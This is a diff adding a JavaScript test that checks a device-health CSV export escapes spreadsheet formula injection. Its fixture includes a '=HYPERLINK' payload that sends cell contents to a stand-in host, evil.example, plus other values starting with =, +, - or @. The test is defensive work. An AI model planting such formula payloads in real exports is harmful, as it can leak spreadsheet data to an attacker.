@@ -135,3 +135,29 @@ test('the CSV export carries totals, groups, list rows and packet rates', () => 
   assert.ok(lines.includes('list vis.dropped,34020000001320000001,,,,,OFFLINE,,,,'));
   assert.ok(lines.includes('packets,d/c,,,,,,,90,100,0.9000'));
 });
+
+test('the CSV export neutralises formulas: a group or device the platform names "=…" is text in a spreadsheet', () => {
+  const csv = healthCsv(
+    {
+      at: '2026-11-22T00:00:00Z',
+      total: counts(tree),
+      groups: [
+        {
+          id: 'g',
+          name: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+          devices: 1,
+          devicesOnline: 1,
+          channels: 0,
+          channelsOnline: 0,
+        },
+      ],
+      lists: [{ key: 'k', items: [{ deviceId: '@SUM(1+1)', state: '+1', detail: '-2+3' }] }],
+      packetRates: [],
+      problems: [],
+    },
+    (k) => k,
+  );
+  const cells = csv.split('\r\n').flatMap((l) => l.split(','));
+  for (const c of cells) assert.doesNotMatch(c.replace(/^"/, ''), /^[=+\-@]/, csv);
+  assert.ok(csv.includes(`'=HYPERLINK`), csv);
+});
